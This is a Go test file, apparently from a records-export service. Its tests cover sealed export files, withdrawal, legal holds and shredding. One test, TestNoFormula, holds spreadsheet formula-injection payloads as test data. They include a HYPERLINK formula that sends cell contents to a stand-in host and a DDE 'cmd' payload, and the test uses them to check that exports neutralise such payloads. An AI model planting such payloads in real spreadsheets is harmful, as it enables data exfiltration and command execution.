package reach

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"shirase/internal/actor"
	"shirase/internal/files"
	"shirase/internal/hint"
	"shirase/internal/store"
	"shirase/internal/store/storetest"
)

// sealedFiles are the names of those that are here.
func (h *household) sealedFiles() []string {
	h.t.Helper()
	return must(h.Files.List(exportsFolder))(h.t)
}

// TestMadeTwice: two who make the same file at once seal it differently. The one that is written down can be handed over, and nothing of the other stays.
func TestMadeTwice(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := newHousehold(t, db, 40, nil)
		p := must(h.PlanExport(t.Context(), actor.Operator(), "loss-2026", h.asked(h.letters(Post, h.mailed(3).ID, nil))))(t)
		id := must(h.ApproveExport(t.Context(), actor.Operator(), p, nil))(t)
		other := false
		h.step = func() { // before the first commits its file, another process has made its own
			if !other {
				other = true
				if err := h.Make(t.Context(), id); err != nil {
					t.Error(err)
				}
			}
		}
		if err := h.Make(t.Context(), id); !errors.Is(err, ErrState) || !other {
			t.Fatalf("the second: %v", err)
		}
		if all := h.sealedFiles(); len(all) != 1 {
			t.Errorf("%q", all)
		}
		h.opened(id)
	})
}

// TestFilesGo: what nobody is to have any more goes, also where a process died before it had removed it, and with the case's key: only the house's
// opens it, and destroying ours leaves it open to them.
func TestFilesGo(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := newHousehold(t, db, 40, nil)
		x := h.made(h.asked(h.letters(Post, h.mailed(3).ID, nil)))
		name := exportFile("loss-2026", x.ID, x.Manifest.SealedSHA256)
		sealed := must(h.Files.Get(name, 1<<20))(t)
		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 1 {
			t.Fatalf("%v, %q", err, h.sealedFiles())
		}
		if err := h.Withdraw(t.Context(), actor.Operator(), x.ID, ""); err != nil {
			t.Fatal(err)
		}
		if err := h.Files.Put(name, sealed); err != nil { // as where it died in between
			t.Fatal(err)
		}
		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 0 {
			t.Errorf("withdrawn: %v, %q", err, h.sealedFiles())
		}
		y := h.made(h.asked(must(h.Get(t.Context(), actor.Operator(), x.Campaign))(t)))
		h.opened(y.ID)
		if len(h.sealedFiles()) != 1 {
			t.Fatalf("%q", h.sealedFiles())
		}
		if err := h.Rosters.Shred(t.Context(), actor.Operator(), "loss-2026"); err != nil {
			t.Fatal(err)
		}
		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 0 {
			t.Errorf("shredded: %v, %q", err, h.sealedFiles())
		}
	})
}

// TestFileLost: a file that is not here any more, as after a restore, is not handed over; where nobody has got it, it is withdrawn and made anew, and where
// the house has it, that is said.
func TestFileLost(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := newHousehold(t, db, 40, nil)
		x := h.made(h.asked(h.letters(Post, h.mailed(3).ID, nil)))
		lose := func(x *Export, says string) {
			t.Helper()
			if err := h.Files.Remove(exportFile("loss-2026", x.ID, x.Manifest.SealedSHA256)); err != nil {
				t.Fatal(err)
			}
			if _, _, err := h.HandOver(t.Context(), actor.Operator(), x.ID); !errors.Is(err, files.ErrNotExist) || !strings.Contains(hint.Of(err), says) {
				t.Errorf("%v: %s", err, hint.Of(err))
			}
		}
		lose(x, "campaign withdraw "+x.ID)
		if err := h.Withdraw(t.Context(), actor.Operator(), x.ID, "lost"); err != nil {
			t.Fatal(err)
		}
		y := h.made(h.asked(must(h.Get(t.Context(), actor.Operator(), x.Campaign))(t)))
		h.opened(y.ID)
		lose(y, "the house has it")
	})
}

// TestFilesHeld: while a legal hold is on a file that was withdrawn stays, and nobody gets it; it goes when the hold has ended, and with the key.
func TestFilesHeld(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := newHousehold(t, db, 40, nil)
		on := true
		h.Reach.Held = func(_ context.Context, _ store.Querier, of string) (bool, error) { return on && of == "loss-2026", nil }
		x := h.made(h.asked(h.letters(Post, h.mailed(3).ID, nil)))
		if err := h.Withdraw(t.Context(), actor.Operator(), x.ID, ""); err != nil {
			t.Fatal(err)
		}
		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 1 {
			t.Fatalf("held: %v, %q", err, h.sealedFiles())
		}
		if _, _, err := h.HandOver(t.Context(), actor.Operator(), x.ID); !errors.Is(err, ErrState) {
			t.Errorf("what was withdrawn is handed over: %v", err)
		}
		on = false
		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 0 {
			t.Errorf("the hold has ended: %v, %q", err, h.sealedFiles())
		}
		h.made(h.asked(must(h.Get(t.Context(), actor.Operator(), x.Campaign))(t)))
		if err := h.Rosters.Shred(t.Context(), actor.Operator(), "loss-2026"); err != nil {
			t.Fatal(err)
		}
		on = true
		if err := h.TidyFiles(t.Context()); err != nil || len(h.sealedFiles()) != 0 {
			t.Errorf("shredded: %v, %q", err, h.sealedFiles())
		}
	})
}

// TestNoFormula: what somebody has called themselves is no formula in a house's spreadsheet, and numbers stay as they are.
func TestNoFormula(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := newHousehold(t, db, 40, nil)
		evil := []string{`=HYPERLINK("http://x.example/?"&C2)`, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "＝1+1", "+81 90 1234 5678", "-5", "山田 =太郎"}
		for i, name := range evil {
			h.list = strings.Replace(h.list, fmt.Sprintf("例示 %d\n", 4*i+2), `"`+strings.ReplaceAll(name, `"`, `""`)+"\"\n", 1)
		}
		a := h.asked(h.letters(Post, h.mailed(3).ID, nil))
		a.Columns, a.Texts = []string{"氏名"}, false
		_, rows, _ := h.opened(h.made(a).ID)
		found := 0
		for _, row := range rows {
			if slices.Contains(evil, row[1]) && strings.IndexAny(row[1], "=+-@＝") == 0 && row[1] != "+81 90 1234 5678" && row[1] != "-5" {
				t.Errorf("%q is a formula", row[1])
			}
			if strings.HasPrefix(row[1], "'") || slices.Contains(evil, row[1]) {
				found++
			}
		}
		if found != len(evil) {
			t.Errorf("%d of %d are in the file", found, len(evil))
		}
	})
}
